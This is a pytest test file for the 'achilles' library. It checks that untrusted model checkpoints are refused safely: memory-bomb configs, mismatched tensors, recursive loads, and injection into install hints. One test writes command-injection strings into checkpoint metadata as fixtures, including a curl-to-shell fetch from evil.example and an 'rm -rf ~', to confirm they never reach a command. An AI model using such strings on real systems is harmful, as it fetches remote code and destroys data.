"""Hostile cases, second round (issue 19, points 2, 3 and 4): an untrusted checkpoint is data, no
plugin can replace a first-party component, plugin code cannot stop the program or fake success.

Each test fails if its class of problem comes back; tests/HOSTILE-2.md lists them with what
achilles did before and what it does now.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import types
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner
from safetensors.torch import save_file

import achilles
from achilles import HookedModel, hookimpl
from achilles.runs import RunFolder, file_sha256

import toy_plugin

HERE = Path(__file__).resolve().parent
REPO = HERE.parent


def achilles_cli(*args):
    from achilles.cli import get_cli

    return CliRunner().invoke(get_cli(), [str(a) for a in args])


def one_error_line(result) -> str:
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.output and "internal error" not in lines[0], lines[0]
    return lines[0]


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux


@pytest.fixture(autouse=True)
def toy():
    achilles.register_plugin(toy_plugin, "toy")


# -- 2. an untrusted checkpoint is data, never a program or a memory bomb ----------------------
@pytest.fixture
def saved(tmp_path) -> Path:
    """A tiny first-party transformer saved with save_pretrained (config.json + model.safetensors)."""
    folder = tmp_path / "saved"
    achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).save_pretrained(folder)
    return folder


@pytest.fixture(scope="module")
def trained_run(tmp_path_factory) -> Path:
    from achilles.trainer import finalize_run, start_run

    achilles.register_plugin(toy_plugin, "toy")
    path = tmp_path_factory.mktemp("trained") / "run"
    trainer = start_run("toy-mixer", "toy-count", out=path, profile="quick", epochs=1, train_samples=64,
                        eval_samples=16, batch_size=16, progress=False)
    assert trainer.fit().status == "finished"
    finalize_run(path)
    return path


@pytest.fixture
def run_copy(trained_run, tmp_path) -> Path:
    return Path(shutil.copytree(trained_run, tmp_path / "run"))


def edit_config(folder: Path, **changes) -> None:
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps({**config, **changes}))


def every_loader(folder: Path):
    """Each way to load a checkpoint folder in Python."""
    return {"from_pretrained": lambda: HookedModel.from_pretrained(str(folder)),
            "create_model(pretrained=True)": lambda: achilles.create_model(str(folder), pretrained=True),
            "create_model": lambda: achilles.create_model(str(folder))}


@pytest.mark.parametrize("change, error, says", [
    ({"d_model": 10 ** 7}, "TooLargeError", ["refusing to build", "PiB", "d_model=10,000,000"]),
    ({"d_model": 4096}, "CheckpointError", ["tensor 'embed.weight' has shape [16, 8] in the file, the model expects "
                                            "[16, 4096]"]),
    ({"n_layers": 10 ** 6}, "CheckpointError", ["8,000,005 tensors", "n_layers=1,000,000", "holds 21"]),
], ids=["d-model-1e7", "d-model-4096", "n-layers-1e6"])
def test_a_huge_config_with_small_weights_is_refused_before_building(saved, change, error, says):
    edit_config(saved, **change)
    for loader, load in every_loader(saved).items():
        before, started = peak_rss_mb(), time.monotonic()
        with pytest.raises(achilles.AchillesError) as info:
            load()
        assert type(info.value).__name__ == error, (loader, info.value)
        for needle in says:
            assert needle in str(info.value), (loader, str(info.value))
        assert time.monotonic() - started < 30, loader  # was: still building after 90 s (n_layers 10^6)
        assert peak_rss_mb() - before < 200, loader     # was: 1.9 GB (d_model 4096), 1.6 PB asked (10^7)


@pytest.mark.parametrize("change", [{"d_model": 4096}, {"n_layers": 10 ** 6}, {"d_model": 10 ** 7}])
def test_a_run_folder_with_a_huge_config_is_refused_by_load_eval_and_probe(run_copy, change):
    edit_config(run_copy, **change)  # the weights (and their sha256 in run.json) are unchanged
    with pytest.raises(achilles.AchillesError, match="refusing to build|in the file, the model expects"):
        achilles.load(run_copy)
    for argv in (("eval", run_copy), ("probe", run_copy, "--probe", "toy-echo")):
        line = one_error_line(achilles_cli(*argv))
        assert "refusing to build" in line or "in the file, the model expects" in line, line


def _rewrite_weights(folder: Path, tensors: dict[str, torch.Tensor]) -> None:
    save_file(tensors, str(folder / "model.safetensors"), metadata={"format": "pt"})


def test_weights_whose_names_shapes_or_dtypes_differ_are_refused_naming_the_first(saved):
    good = dict(achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).state_dict())
    cases = {
        "shape": ({**good, "pos_embed.weight": torch.zeros(33, 8)},
                  "tensor 'pos_embed.weight' has shape [33, 8] in the file, the model expects [32, 8]"),
        "dtype": ({**good, "pos_embed.weight": torch.zeros(32, 8, dtype=torch.float64)},
                  "tensor 'pos_embed.weight' is F64 in the file, the model expects F32"),
        "extra": ({**good, "evil": torch.zeros(1)}, "the file holds tensor 'evil', which the model has not"),
        "missing": ({k: v for k, v in good.items() if k != "unembed.weight"},
                    "tensor 'unembed.weight' is missing from the file"),
    }
    for what, (tensors, says) in cases.items():
        _rewrite_weights(saved, tensors)
        with pytest.raises(achilles.CheckpointError, match="do not fit 'transformer'") as info:
            HookedModel.from_pretrained(str(saved))
        assert says in str(info.value), (what, str(info.value))


def test_a_huge_tensor_in_the_file_is_refused_without_reading_it(saved):
    good = dict(achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=2).state_dict())
    _rewrite_weights(saved, {**good, "embed.weight": torch.zeros(16, 4_000_000)})  # 256 MB on disk
    before = peak_rss_mb()
    with pytest.raises(achilles.CheckpointError, match=r"'embed.weight' has shape \[16, 4000000\] in the file, "
                                                       r"the model expects \[16, 8\]"):
        HookedModel.from_pretrained(str(saved))
    assert peak_rss_mb() - before < 128  # the header was read, not the 256 MB tensor


def test_a_checkpoint_never_loads_another_checkpoint(saved, tmp_path):
    for arch in (str(saved), "hf-hub:evil-org/loop", "./saved", "transformer@hf-hub:x"):
        edit_config(saved, arch=arch)  # names itself, a Hub repo, a relative folder
        for loader, load in every_loader(saved).items():
            started = time.monotonic()
            with pytest.raises(achilles.AchillesError, match="unknown architecture|no registered architecture"):
                load()
            assert time.monotonic() - started < 10, loader  # no recursion, no download

    # a component whose factory itself loads a checkpoint (a plugin's mistake or a trap): one level only
    other = tmp_path / "other"
    achilles.create_model("transformer", vocab_size=16, max_len=32, d_model=8, n_layers=1).save_pretrained(other)
    trap = types.SimpleNamespace()

    @hookimpl
    def register_architectures(register):
        def build(**settings):
            return achilles.create_model(str(other), pretrained=True)
        register("trap-arch", build)

    trap.register_architectures = register_architectures
    assert achilles.register_plugin(trap, "trap")
    edit_config(saved, arch="trap-arch")
    with pytest.raises(achilles.CheckpointError, match="loading is one level deep"):
        HookedModel.from_pretrained(str(saved))


@pytest.mark.parametrize("dist, version, absent, says", [
    ("evil' && curl https://evil.example/x | sh #", "1.0", ["curl", "pip install", "&&"],
     "provided_by.arch.distribution field holds an invalid distribution name"),
    ("achilles-gone-plugin", "1.0'; rm -rf ~; echo '", ["rm -rf", "1.0'"],
     "pip install 'achilles-gone-plugin'"),
    ("-e git+https://evil.example/x", "1.0", ["git+", "pip install"], "invalid distribution name"),
    ("achilles-gone-plugin", "1.2.3", [], "pip install 'achilles-gone-plugin==1.2.3'"),
], ids=["shell-in-name", "shell-in-version", "pip-option-in-name", "valid"])
def test_text_from_a_checkpoint_never_reaches_a_command_to_run(run_copy, dist, version, absent, says):
    RunFolder(run_copy).update_config(arch="gone-arch", provided_by={
        "arch": {"plugin": "x", "distribution": dist, "version": version}})
    line = one_error_line(achilles_cli("eval", run_copy))
    assert says in line, line
    for needle in absent:
        assert needle not in line, line
